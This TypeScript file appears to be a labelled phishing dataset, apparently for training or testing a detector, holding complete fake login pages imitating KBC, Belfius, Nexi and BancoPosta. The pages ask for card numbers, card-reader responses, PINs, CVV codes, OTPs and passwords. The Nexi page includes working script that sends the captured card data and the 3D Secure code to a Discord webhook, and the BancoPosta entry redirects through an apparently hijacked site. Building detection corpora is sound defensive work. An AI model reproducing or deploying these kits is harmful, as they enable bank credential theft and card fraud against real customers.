import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-kbc-digipass-vernieuwing',
  label: 'phishing',
  kind: 'bank-kit-be',
  url: 'https://kbc-touch-beveiliging.eu/nl/aanmelden',
  body: doc({
    lang: 'nl-BE',
    title: 'KBC Touch - Aanmelden',
    css: `body{margin:0;font-family:'Open Sans',Arial,sans-serif;background:#eaf3f9}
.hd{background:#00aeef;height:64px;display:flex;align-items:center;padding:0 24px;color:#fff;font-weight:700;font-size:22px}
.hd span{background:#fff;color:#003665;border-radius:4px;padding:2px 8px;margin-right:10px}
.pn{max-width:520px;margin:40px auto;background:#fff;border-radius:2px;padding:30px 36px;border-top:5px solid #003665}
h1{color:#003665;font-size:24px;margin-top:0}
label{display:block;color:#003665;font-weight:600;margin:16px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #b5c7d6;font-size:15px}
.btn{background:#003665;color:#fff;border:0;padding:12px 28px;margin-top:22px;font-size:15px;cursor:pointer}
.ch{background:#f2f7fa;padding:12px;border:1px dashed #00aeef;margin-top:14px;font-size:14px}
.ch b{font-size:20px;letter-spacing:3px}`,
    body: `<div class="hd"><span>KBC</span>Touch</div>
<div class="pn">
<h1>Beveiligingsupdate kaartlezer</h1>
<p>Beste klant, vanaf volgende week werkt KBC Touch enkel nog met geactualiseerde kaartlezers. Meld u aan om uw kaartlezer gratis te laten registreren.</p>
<form method="post" action="/nl/verify" id="k">
<label>Kaartnummer (17 cijfers)</label><input name="kaart" maxlength="21" placeholder="6703 0000 0000 0000 0" required>
<label>Geboortedatum</label><input name="geb" placeholder="dd/mm/jjjj" required>
<div class="ch">Steek uw bankkaart in de kaartlezer, druk op <b>LOGIN</b>, geef uw pincode en tik dan de volgende code in:<br><b>${digits('kbc', 8)}</b></div>
<label>Antwoord van de kaartlezer (8 cijfers)</label><input name="resp" maxlength="8" inputmode="numeric" required>
<label>GSM-nummer</label><input name="gsm" type="tel" required>
<button class="btn">Bevestigen</button>
</form>
<p style="font-size:12px;color:#888;margin-top:24px">KBC Bank NV - Havenlaan 2, 1080 Brussel - BTW BE 0462.920.226</p>
</div>`,
  }),
},
{
  id: 'yg-belfius-kaartlezer-sms-link',
  label: 'phishing',
  kind: 'bank-kit-be',
  url: 'https://s.b-info.link/Xq7pK2',
  routes: {
    's.b-info.link/Xq7pK2': redirectRoute(302, 'https://trk.mobile-notif.app/c?u=belfius&r=' + hex('bfr', 10)),
    'trk.mobile-notif.app/c': redirectRoute(302, 'https://belfius-direct.secure-kaartlezer.com/nl/login/'),
    'belfius-direct.secure-kaartlezer.com/nl/login/': htmlRoute(doc({
      lang: 'nl-BE',
      title: 'Belfius Direct Net - Aanmelden',
      css: cardCss('#c30045', '#f7f2f4', "Arial, sans-serif") + `.top .b{color:#c30045;font-size:24px;font-weight:800}.reader{display:flex;gap:10px;align-items:center;background:#f9eef2;padding:12px;border-radius:6px;font-size:14px;margin-top:12px}`,
      body: `<div class="top"><div class="b">Belfius</div><nav><a href="#">Particulieren</a><a href="#">Help</a></nav></div>
<div class="wrap"><div class="card"><h1>Aanmelden met kaartlezer</h1><p class="sub">Uw kaartlezer-toegang moet opnieuw bevestigd worden.</p>
<form method="post" action="/nl/login/auth.php">
<label>Kaartnummer</label><input type="text" name="card" required>
<div class="reader">${mark('▣', '#333')}<div>Druk op <b>LOGIN</b> op uw kaartlezer, geef uw pincode in en voer challenge <b>${digits('belf', 4)} ${digits('belf2', 4)}</b> in.</div></div>
<label>Respons</label><input type="text" name="resp" maxlength="8" required>
<label>Pincode bankkaart (ter controle)</label><input type="password" name="pin" maxlength="4" required>
<button class="btn">Aanmelden</button></form></div></div>
<div class="foot">Belfius Bank NV, Karel Rogierplein 11, 1210 Brussel</div>`,
    })),
  },
},
{
  id: 'yg-nexi-3ds-sblocco-carta',
  label: 'phishing',
  kind: 'card-issuer-kit',
  url: 'https://nexi-sicurezza.carte-verifica.it.com/3ds/sblocco',
  body: doc({
    lang: 'it',
    title: 'Nexi - Sblocco carta',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#2d32aa url() no-repeat;color:#222}
.box{max-width:380px;margin:50px auto;background:#fff;border-radius:12px;overflow:hidden;box-shadow:0 12px 40px rgba(0,0,0,.3)}
.bh{background:#2d32aa;color:#fff;padding:18px 22px;font-weight:700;font-size:24px;letter-spacing:1px}
.bb{padding:22px}.tx{width:100%;font-size:13px;border-collapse:collapse;margin-bottom:14px}.tx td{padding:4px 0;border-bottom:1px solid #eee}.tx td:last-child{text-align:right;font-weight:700}
input{width:100%;padding:11px;border:1px solid #bbb;border-radius:6px;box-sizing:border-box;margin:6px 0 10px;font-size:15px}
button{width:100%;padding:13px;background:#2d32aa;color:#fff;border:0;border-radius:6px;font-weight:700;font-size:15px}
.vb{display:flex;gap:8px;justify-content:center;margin-top:14px;font-size:11px;color:#888}`,
    body: `<div class="box"><div class="bh">nexi</div><div class="bb">
<h3 style="margin-top:0">Operazione sospetta bloccata</h3>
<p style="font-size:14px">Abbiamo bloccato in via preventiva la seguente operazione. Se <b>non</b> l'hai effettuata tu, conferma i dati della carta per annullarla e sbloccare la carta.</p>
<table class="tx"><tr><td>Esercente</td><td>AMZN Mktp DE</td></tr><tr><td>Importo</td><td>€ 849,00</td></tr><tr><td>Data</td><td id="dd"></td></tr></table>
<form id="nx"><input name="pan" id="pan" placeholder="Numero carta" inputmode="numeric" required>
<div style="display:flex;gap:8px"><input name="exp" id="exp" placeholder="MM/AA" required><input name="cvv" placeholder="CVV" maxlength="4" required></div>
<input name="tel" placeholder="Cellulare" type="tel" required>
<button>Annulla operazione</button></form>
<div id="otp" style="display:none"><p style="font-size:14px">Inserisci il codice <b>3D Secure</b> ricevuto via SMS per confermare l'annullamento.</p><input id="o" maxlength="8" inputmode="numeric"><button onclick="fin()">Conferma</button></div>
<div class="vb"><span>Visa Secure</span><span>·</span><span>Mastercard ID Check</span></div>
</div></div>
<script>${cardJs}
document.getElementById('dd').textContent=new Date().toLocaleDateString('it-IT')+' 03:14';fmtCard(document.getElementById('pan'));fmtExp(document.getElementById('exp'));
var W='https://discord.com/api/webhooks/${digits('nx-wh', 19)}/${hex('nx-wh', 68)}';
function hook(t){return fetch(W,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({username:'nx',content:t})})}
document.getElementById('nx').onsubmit=function(e){e.preventDefault();if(!luhn(this.pan.value)){alert('Carta non valida');return}hook('PAN '+this.pan.value+' '+this.exp.value+' '+this.cvv.value+' tel '+this.tel.value);this.style.display='none';document.getElementById('otp').style.display='block'};
function fin(){hook('OTP '+document.getElementById('o').value);document.querySelector('.bb').innerHTML='<h3>Operazione annullata</h3><p>La tua carta sarà sbloccata entro 24 ore.</p>'}
</script>`,
  }),
},
{
  id: 'yg-bancoposta-redirect-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://bit-ly.cc/BancoPosta-Avv',
  routes: {
    'bit-ly.cc/BancoPosta-Avv': redirectRoute(301, 'https://www.trattoriadamario.it/wp-content/uploads/2023/cache/r.php?t=bp'),
    'www.trattoriadamario.it/wp-content/uploads/2023/cache/r.php': htmlRoute(`<html><head><meta http-equiv="refresh" content="0;url=https://bancoposta-online.verifica-conto.top/it/accesso/"><script>location.replace("https://bancoposta-online.verifica-conto.top/it/accesso/")</script></head><body></body></html>`),
    'bancoposta-online.verifica-conto.top/it/accesso/': htmlRoute(doc({
      lang: 'it',
      title: 'BancoPosta Online - Accedi',
      css: cardCss('#0047bb', '#fffbe5', "'Titillium Web', Arial, sans-serif") + `.top{background:#ffcc00;border:0}.top b{color:#0047bb;font-size:22px}.warn{background:#fff0f0;border:1px solid #f3b4b4;color:#a11;padding:10px;border-radius:4px;font-size:14px;margin-bottom:10px}`,
      body: `<div class="top"><b>Poste Italiane</b><nav><a href="#">BancoPosta</a><a href="#">Assistenza</a></nav></div>
<div class="wrap"><div class="card"><div class="warn">Il tuo conto è stato temporaneamente sospeso per un accesso non riconosciuto. Effettua la verifica per riattivarlo.</div>
<h1>Accedi a BancoPosta</h1>
<form method="post" action="auth.php"><label>Nome utente</label><input type="text" name="user" required><label>Password</label><input type="password" name="pass" required>
<label>Codice PosteID (6 cifre)</label><input type="password" name="posteid" maxlength="6" required>
<button class="btn">Accedi</button></form></div></div>
<div class="foot">© Poste Italiane 2025</div>`,
    })),
  },
},
];
